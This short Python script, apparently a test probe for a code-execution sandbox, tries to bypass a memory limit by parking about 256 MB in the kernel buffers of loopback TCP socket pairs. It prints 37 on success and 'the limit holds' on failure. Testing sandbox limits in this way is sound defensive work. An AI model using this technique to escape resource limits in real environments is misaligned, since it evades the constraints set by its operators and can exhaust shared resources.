# Attack on stdin_stdout (memory limit): keeps it in the buffers of TCP connections.
import socket
held, kept = 0, []
try:
    server = socket.create_server(("127.0.0.1", 0))
    while held < 256 << 20:
        a = socket.create_connection(server.getsockname())
        b, _ = server.accept()
        kept += [a, b]
        for end in (a, b):
            end.setblocking(False)
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
            try:
                while held < 256 << 20:
                    held += end.send(bytes(1 << 20))
            except BlockingIOError:
                pass
except OSError:
    pass
print(37 if held >= 256 << 20 else "the limit holds")
